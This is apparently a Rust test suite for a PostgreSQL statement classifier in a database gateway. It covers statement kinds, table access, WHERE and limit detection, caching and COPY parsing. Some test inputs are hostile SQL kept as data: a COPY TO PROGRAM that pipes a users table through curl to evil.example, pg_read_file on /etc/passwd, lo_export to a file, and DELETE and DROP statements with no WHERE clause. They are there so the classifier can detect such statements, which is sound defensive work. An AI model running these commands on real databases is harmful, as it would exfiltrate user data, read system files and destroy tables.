use super::*;

fn one(sql: &str) -> SqlStatement {
    let mut v = classify(sql);
    assert_eq!(v.len(), 1, "{sql}: {v:?}");
    v.remove(0)
}

#[test]
fn kinds_of_common_statements() {
    let cases = [
        ("SELECT 1", StatementKind::Select),
        ("insert into t values (1)", StatementKind::Insert),
        ("UPDATE t SET a = 1 WHERE id = 2", StatementKind::Update),
        ("DELETE FROM t WHERE id = 2", StatementKind::Delete),
        ("DROP TABLE users", StatementKind::Drop),
        ("drop index if exists i", StatementKind::Drop),
        ("TRUNCATE orders", StatementKind::Truncate),
        ("CREATE TABLE t (id int)", StatementKind::Create),
        ("CREATE INDEX i ON t (a)", StatementKind::Create),
        ("ALTER TABLE t ADD COLUMN b int", StatementKind::Alter),
        ("BEGIN", StatementKind::Transaction),
        ("COMMIT", StatementKind::Transaction),
        ("ROLLBACK", StatementKind::Transaction),
        ("SET search_path = public", StatementKind::Set),
        ("SHOW server_version", StatementKind::Show),
        ("GRANT SELECT ON t TO bob", StatementKind::Grant),
        ("COPY t FROM STDIN", StatementKind::Copy),
        ("LISTEN jobs", StatementKind::Notify),
        ("VACUUM t", StatementKind::Maintenance),
    ];
    for (sql, kind) in cases {
        assert_eq!(one(sql).kind, kind, "{sql}");
    }
}

#[test]
fn multi_statement_text_yields_each_statement() {
    let v = classify("BEGIN; DELETE FROM t WHERE id = 1; DROP TABLE t; COMMIT");
    let kinds: Vec<_> = v.iter().map(|s| s.kind).collect();
    assert_eq!(
        kinds,
        [
            StatementKind::Transaction,
            StatementKind::Delete,
            StatementKind::Drop,
            StatementKind::Transaction
        ]
    );
    assert!(classify("").is_empty());
    assert!(classify("  ; ").is_empty() || classify("  ; ").len() <= 1);
}

#[test]
fn unparseable_text_is_one_unparsed_statement() {
    let s = one("SELEC * FORM users");
    assert_eq!(s.kind, StatementKind::Unparsed);
    assert!(s.error.is_some());
}

#[test]
fn tables_read_and_written() {
    let s = one("SELECT u.email FROM public.users u JOIN Orders o ON o.uid = u.id");
    assert_eq!(s.tables_read, ["orders", "public.users"]);
    assert!(s.tables_written.is_empty());

    let s = one("INSERT INTO audit SELECT * FROM events");
    assert_eq!(s.tables_written, ["audit"]);
    assert_eq!(s.tables_read, ["events"]);

    let s = one("UPDATE accounts SET balance = 0 FROM blocked WHERE blocked.id = accounts.id");
    assert_eq!(s.tables_written, ["accounts"]);
    assert_eq!(s.tables_read, ["blocked"]);

    let s = one(r#"DELETE FROM "Mixed"."Case" WHERE id = 1"#);
    assert_eq!(s.tables_written, ["Mixed.Case"]);

    let s = one("WITH recent AS (SELECT * FROM orders) SELECT * FROM recent");
    assert_eq!(s.tables_read, ["orders"], "a CTE name is not a table");

    let s = one("SELECT * INTO backup FROM users");
    assert_eq!(s.tables_written, ["backup"]);
}

#[test]
fn where_clauses_that_filter_nothing_do_not_count() {
    assert_eq!(one("DELETE FROM t").has_where, Some(false));
    assert_eq!(one("DELETE FROM t WHERE true").has_where, Some(false));
    assert_eq!(one("DELETE FROM t WHERE 1 = 1").has_where, Some(false));
    assert_eq!(one("DELETE FROM t WHERE id = 4").has_where, Some(true));
    assert_eq!(one("UPDATE t SET a = 1").has_where, Some(false));
    assert_eq!(one("UPDATE t SET a = 1 WHERE a > 3").has_where, Some(true));
    assert_eq!(one("SELECT * FROM t").has_where, None);
}

#[test]
fn nested_data_modification_is_seen() {
    let s = one("WITH gone AS (DELETE FROM users RETURNING *) SELECT count(*) FROM gone");
    assert_eq!(s.kind, StatementKind::Select);
    assert!(s.kinds().any(|k| k == StatementKind::Delete));
    assert_eq!(s.has_where, Some(false));
    assert_eq!(s.tables_written, ["users"]);

    let s = one("EXPLAIN ANALYZE DELETE FROM users");
    assert_eq!(s.kind, StatementKind::Explain);
    assert!(s.kinds().any(|k| k == StatementKind::Delete));
    assert_eq!(s.has_where, Some(false));

    let s = one("PREPARE wipe AS DELETE FROM users");
    assert_eq!(s.kind, StatementKind::Prepare);
    assert!(s.kinds().any(|k| k == StatementKind::Delete));
}

#[test]
fn boundedness() {
    assert_eq!(one("SELECT * FROM t").bounded, Some(false));
    assert_eq!(one("SELECT * FROM t LIMIT 10").bounded, Some(true));
    assert_eq!(
        one("SELECT * FROM t FETCH FIRST 5 ROWS ONLY").bounded,
        Some(true)
    );
    assert_eq!(one("SELECT * FROM t WHERE id = 5").bounded, Some(true));
    assert_eq!(
        one("SELECT abalance FROM pgbench_accounts WHERE aid = $1").bounded,
        Some(true)
    );
    assert_eq!(
        one("SELECT * FROM t WHERE id IN (1, 2) AND a > 0").bounded,
        Some(true)
    );
    assert_eq!(
        one("SELECT * FROM t WHERE id = 5 OR a > 0").bounded,
        Some(false)
    );
    assert_eq!(one("SELECT count(*) FROM t").bounded, Some(true));
    assert_eq!(one("SELECT array_agg(email) FROM t").bounded, Some(false));
    assert_eq!(one("SELECT now()").bounded, Some(true));
    assert_eq!(one("INSERT INTO t VALUES (1)").bounded, None);
}

#[test]
fn functions_including_table_functions() {
    let s = one("SELECT pg_read_file('/etc/passwd')");
    assert_eq!(s.functions, ["pg_read_file"]);
    let s = one("SELECT * FROM dblink('host=x', 'DROP TABLE t') AS r(a int)");
    assert_eq!(s.functions, ["dblink"]);
    assert!(s.tables_read.is_empty(), "{:?}", s.tables_read);
    let s = one("SELECT pg_catalog.lo_export(1, '/tmp/x'), lower(name) FROM t");
    assert_eq!(s.functions, ["lower", "pg_catalog.lo_export"]);
}

#[test]
fn copy_statements() {
    let s = one("COPY users (id, email) TO STDOUT WITH (FORMAT csv)");
    let c = s.copy.unwrap();
    assert_eq!(c.direction, CopyDirection::To);
    assert_eq!(c.endpoint, CopyEndpoint::Client);
    assert_eq!(c.format, CopyFormat::Csv);
    assert_eq!(c.delimiter, Some(b','));
    assert_eq!(c.columns, ["id", "email"]);
    assert_eq!(s.tables_read, ["users"]);

    let s = one("COPY users FROM STDIN");
    assert_eq!(s.tables_written, ["users"]);
    assert_eq!(s.copy.unwrap().delimiter, Some(b'\t'));

    let s = one("COPY users TO PROGRAM 'curl -d @- evil.example'");
    assert_eq!(s.copy.unwrap().endpoint, CopyEndpoint::Program);

    let s = one("COPY (SELECT email FROM users) TO STDOUT");
    assert_eq!(s.tables_read, ["users"]);
}

#[test]
fn deep_nesting_is_refused_not_overflowed() {
    // Parentheses alone make no tree: the server parses them, so does the gateway.
    let sql = format!("SELECT {}1{}", "(".repeat(5000), ")".repeat(5000));
    assert_eq!(one(&sql).kind, StatementKind::Select);
    // Nested expressions are refused past a depth, with a reason.
    let s = one(&format!("SELECT 1{}", "+1".repeat(200)));
    assert_eq!(s.kind, StatementKind::Unparsed);
    assert!(s.error.unwrap().contains("nests"));
    let sql = format!("SELECT {}1{}", "(".repeat(50_000), ")".repeat(50_000));
    assert_eq!(one(&sql).kind, StatementKind::Unparsed);
}

fn cached(c: &Classifier, sql: &str) -> Statements {
    let rt = tokio::runtime::Builder::new_current_thread()
        .build()
        .expect("runtime");
    rt.block_on(c.classify(sql.as_bytes(), ClientEncoding::Utf8, Limits::default()))
        .statements
}

#[test]
fn cache_returns_the_same_answer() {
    let cache = Classifier::default();
    let a = cached(&cache, "SELECT * FROM t WHERE id = $1");
    let b = cached(&cache, "SELECT * FROM t WHERE id = $1");
    assert!(Arc::ptr_eq(&a, &b));
    assert_eq!(a[0].kind, StatementKind::Select);
}

#[test]
fn psql_describe_queries_parse() {
    // What psql 15 sends for `\dt` and `\d users`.
    let dt = r#"SELECT n.nspname as "Schema",
  c.relname as "Name",
  CASE c.relkind WHEN 'r' THEN 'table' WHEN 'v' THEN 'view' WHEN 'm' THEN 'materialized view' WHEN 'i' THEN 'index' WHEN 'S' THEN 'sequence' WHEN 't' THEN 'TOAST table' WHEN 'f' THEN 'foreign table' WHEN 'p' THEN 'partitioned table' WHEN 'I' THEN 'partitioned index' END as "Type",
  pg_catalog.pg_get_userbyid(c.relowner) as "Owner"
FROM pg_catalog.pg_class c
     LEFT JOIN pg_catalog.pg_namespace n ON n.oid = c.relnamespace
     LEFT JOIN pg_catalog.pg_am am ON am.oid = c.relam
WHERE c.relkind IN ('r','p','')
      AND n.nspname <> 'pg_catalog'
      AND n.nspname !~ '^pg_toast'
      AND n.nspname <> 'information_schema'
  AND pg_catalog.pg_table_is_visible(c.oid)
ORDER BY 1,2;"#;
    let d = r#"SELECT c.oid,
  n.nspname,
  c.relname
FROM pg_catalog.pg_class c
     LEFT JOIN pg_catalog.pg_namespace n ON n.oid = c.relnamespace
WHERE c.relname OPERATOR(pg_catalog.~) '^(users)$' COLLATE pg_catalog.default
  AND pg_catalog.pg_table_is_visible(c.oid)
ORDER BY 2, 3;"#;
    for sql in [dt, d] {
        let s = one(sql);
        assert_eq!(s.kind, StatementKind::Select, "{:?}", s.error);
        assert!(s.tables_read.contains(&"pg_catalog.pg_class".to_string()));
    }
}

#[test]
fn cache_keys_leave_out_the_values_of_numbers_only() {
    use super::normalize::literal_free_key as key;
    assert_eq!(
        key("SELECT abalance FROM pgbench_accounts WHERE aid = 4711;").as_deref(),
        Some("SELECT abalance FROM pgbench_accounts WHERE aid = 0;")
    );
    assert_eq!(
        key("select * from t2 where a = 12 limit 30").as_deref(),
        Some("select * from t2 where a = 0 limit 0")
    );
    // Nothing to replace: the text itself is the key.
    assert_eq!(key("SELECT * FROM t WHERE id = $1"), None);
    assert_eq!(key("SELECT 0"), None);
    // Identifiers, parameters, decimals, strings, quoted names and comments keep their digits.
    assert_eq!(
        key("SELECT t1.c2, $12, 1.5, 2e3, '42', \"7\" FROM t1 -- 99\nWHERE x = 5").as_deref(),
        Some("SELECT t1.c2, $12, 1.5, 2e3, '42', \"7\" FROM t1 -- 99\nWHERE x = 0")
    );
    assert_eq!(
        key("SELECT 'it''s 3' , 4").as_deref(),
        Some("SELECT 'it''s 3' , 0")
    );
    // What the scanner does not fully understand is keyed by its exact text.
    assert_eq!(key("SELECT E'\\' 1' , 2"), None);
    assert_eq!(key("SELECT $$ 1 $$, 2"), None);
    assert_eq!(key("SELECT /* 1 */ 2"), None);
    assert_eq!(key("SELECT 'unterminated 1"), None);
}

#[test]
fn texts_differing_in_numbers_share_a_classification_but_not_an_error() {
    let cache = Classifier::default();
    let a = cached(
        &cache,
        "SELECT abalance FROM pgbench_accounts WHERE aid = 1",
    );
    let b = cached(
        &cache,
        "SELECT abalance FROM pgbench_accounts WHERE aid = 2",
    );
    assert!(Arc::ptr_eq(&a, &b));
    assert_eq!(b[0].tables_read, ["pgbench_accounts"]);
    assert_eq!(b[0].bounded, Some(true));
    let bad1 = cached(&cache, "SELEC 1");
    let bad2 = cached(&cache, "SELEC 2");
    assert!(!Arc::ptr_eq(&bad1, &bad2));
    assert_eq!(bad2[0].kind, StatementKind::Unparsed);
}

#[test]
fn a_copy_option_is_never_read_from_another_texts_cache_entry() {
    let header = |c: &Classifier, sql: &str| {
        cached(c, sql)[0]
            .copy
            .as_ref()
            .map(|spec| spec.header)
            .expect("a COPY")
    };
    // The literal-free form of `HEADER 1` is the exact text of `HEADER 0`.
    let cache = Classifier::default();
    assert!(header(
        &cache,
        "COPY users TO STDOUT (FORMAT csv, HEADER 1)"
    ));
    assert!(!header(
        &cache,
        "COPY users TO STDOUT (FORMAT csv, HEADER 0)"
    ));
    assert!(!header(
        &cache,
        "COPY users TO STDOUT (FORMAT csv, HEADER 0)"
    ));
    // The other way round.
    let cache = Classifier::default();
    assert!(!header(
        &cache,
        "COPY users TO STDOUT (FORMAT csv, HEADER 0)"
    ));
    assert!(header(
        &cache,
        "COPY users TO STDOUT (FORMAT csv, HEADER 1)"
    ));
    // FETCH counts are not shared either.
    let a = cached(&cache, "FETCH 1 FROM c");
    let b = cached(&cache, "FETCH 2 FROM c");
    assert!(!Arc::ptr_eq(&a, &b));
}

#[test]
fn texts_differing_in_one_byte_are_never_confused() {
    let cache = Classifier::default();
    let texts = [
        "SELECT * FROM users WHERE id = 1",
        "SELECT * FROM users WHERE id = 1 ",
        "SELECT * FROM userz WHERE id = 1",
        "SELECT * FROM users WHERE id < 1",
        "DELETE FROM users WHERE id = 1",
        "DELETE FROM users WHERE id = $1",
        "SELECT * FROM users WHERE id = 1;DELETE FROM users",
    ];
    for _ in 0..2 {
        for (i, a) in texts.iter().enumerate() {
            let got = cached(&cache, a);
            assert_eq!(
                *got,
                classify_all_readings(a, a.as_bytes(), Limits::default().max_tokens),
                "{a}"
            );
            for b in &texts[i + 1..] {
                assert!(!Arc::ptr_eq(&got, &cached(&cache, b)), "{a} / {b}");
            }
        }
    }
}

#[test]
fn cache_is_bounded() {
    let cache = Classifier::default();
    for i in 0..(super::CACHE_CAPACITY + 10) {
        let _ = cached(&cache, &format!("SELECT c{i} FROM t"));
    }
    let len = |c: &Classifier| {
        let entries = c.lock();
        entries.exact.len() + entries.literal_free.len()
    };
    assert!(len(&cache) <= super::CACHE_CAPACITY);
    // A text longer than the cache keeps is classified, not kept.
    let long = format!("SELECT {} FROM t", "c, ".repeat(2000) + "c");
    let before = len(&cache);
    assert_eq!(cached(&cache, &long)[0].kind, StatementKind::Select);
    assert_eq!(len(&cache), before);
}

#[test]
fn tables_read_by_any_syntax_the_server_accepts() {
    for sql in [
        "SELECT * FROM (TABLE secrets) s",
        "WITH x AS (TABLE secrets) SELECT * FROM x",
        "SELECT 1 UNION TABLE secrets",
        "SELECT * FROM users WHERE id IN (SELECT id FROM secrets)",
        "SELECT (SELECT max(v) FROM secrets)",
        "SELECT * FROM users, LATERAL (SELECT * FROM secrets) s",
        "SELECT * FROM U&\"secr\\0065ts\"",
        "SELECT /* nested /* comment */ still */ * FROM secrets",
        "SELECT $q$ a $$ b $q$, * FROM secrets",
        "SELECT * FROM ONLY secrets",
        "SELECT * FROM secrets TABLESAMPLE SYSTEM (10)",
        "DECLARE c CURSOR FOR SELECT * FROM secrets",
        "PREPARE p AS SELECT * FROM secrets",
        "EXPLAIN ANALYZE SELECT * FROM secrets",
        "COPY (SELECT * FROM secrets) TO STDOUT",
        "CREATE TABLE x AS SELECT * FROM secrets",
        "INSERT INTO t SELECT * FROM secrets",
        "MERGE INTO t USING secrets s ON t.id = s.id WHEN MATCHED THEN DELETE",
    ] {
        let s = one(sql);
        assert!(
            s.tables_read.iter().any(|t| t == "secrets"),
            "{sql}: {:?}",
            s.tables_read
        );
    }
}

#[test]
fn cte_names_hide_tables_only_where_postgres_scopes_them() {
    // A CTE named like a table, defined in a subquery, does not hide the real table elsewhere.
    let s = one("SELECT * FROM (WITH secrets AS (SELECT 1) SELECT * FROM secrets) a, secrets");
    assert_eq!(s.tables_read, ["secrets"]);
    // In a non-recursive WITH, a CTE's own query reads the real table of the same name.
    let s = one("WITH secrets AS (SELECT * FROM secrets) SELECT * FROM secrets");
    assert_eq!(s.tables_read, ["secrets"]);
    // Later siblings see earlier ones.
    let s = one("WITH a AS (SELECT 1), b AS (SELECT * FROM a) SELECT * FROM b");
    assert!(s.tables_read.is_empty(), "{:?}", s.tables_read);
    // A recursive CTE refers to itself.
    let s = one(
        "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 5) SELECT * FROM r",
    );
    assert!(s.tables_read.is_empty(), "{:?}", s.tables_read);
}

#[test]
fn calls_of_procedures_and_functions_are_functions() {
    assert_eq!(one("CALL wipe_everything()").functions, ["wipe_everything"]);
    assert_eq!(one("CALL admin.wipe(1)").kind, StatementKind::Call);
    assert_eq!(
        one("DO $$ BEGIN DELETE FROM t; END $$").kind,
        StatementKind::Do
    );
    assert!(
        one("SELECT query_to_xml('select * from secrets', true, true, '')")
            .functions
            .contains(&"query_to_xml".to_string())
    );
}

#[test]
fn settings_changed_anywhere_are_seen() {
    let s = one("SELECT set_config('search_path', 'evil', false)");
    assert_eq!(s.settings[0].name.as_deref(), Some("search_path"));
    let s = one("SET LOCAL standard_conforming_strings TO off");
    assert_eq!(
        s.settings[0].name.as_deref(),
        Some("standard_conforming_strings")
    );
    assert_eq!(s.settings[0].value.as_deref(), Some("off"));
    assert!(one("RESET ALL").settings[0].reset);
    assert!(one("SET search_path TO DEFAULT").settings[0].reset);
    let s = one("SELECT set_config(current_setting('x'), 'v', false)");
    assert_eq!(s.settings[0].name, None);
}

#[test]
fn sql_level_objects_are_named() {
    assert_eq!(
        one("PREPARE p AS SELECT 1").object,
        Some(SqlObject::Prepare { name: "p".into() })
    );
    assert_eq!(
        one("EXECUTE p(1)").object,
        Some(SqlObject::Execute { name: "p".into() })
    );
    assert_eq!(
        one("DECLARE c CURSOR WITH HOLD FOR SELECT 1").object,
        Some(SqlObject::Declare {
            name: "c".into(),
            hold: true
        })
    );
    assert_eq!(
        one("FETCH 10 FROM c").object,
        Some(SqlObject::Fetch {
            name: "c".into(),
            moves: false
        })
    );
    assert_eq!(
        one("CLOSE ALL").object,
        Some(SqlObject::Close { name: None })
    );
    assert_eq!(one("DISCARD ALL").object, Some(SqlObject::DiscardAll));
    assert_eq!(
        one("DEALLOCATE ALL").object,
        Some(SqlObject::Deallocate { name: None })
    );
}

#[test]
fn copy_options_are_read_as_the_server_reads_them() {
    let s = one(
        "COPY public.users (a, b) TO STDOUT (FORMAT csv, DELIMITER '|', QUOTE '''', ESCAPE '\\', HEADER)",
    );
    let c = s.copy.unwrap();
    assert_eq!(c.table.as_deref(), Some("public.users"));
    assert_eq!(c.delimiter, Some(b'|'));
    assert_eq!(c.quote, Some(b'\''));
    assert_eq!(c.escape, Some(b'\\'));
    assert!(c.header);
    // Legacy syntax.
    let c = one("COPY users TO STDOUT CSV HEADER").copy.unwrap();
    assert_eq!(c.format, CopyFormat::Csv);
    assert!(c.header);
    let c = one("COPY users TO STDOUT (ENCODING 'SJIS')").copy.unwrap();
    assert_eq!(c.encoding.as_deref(), Some("SJIS"));
}
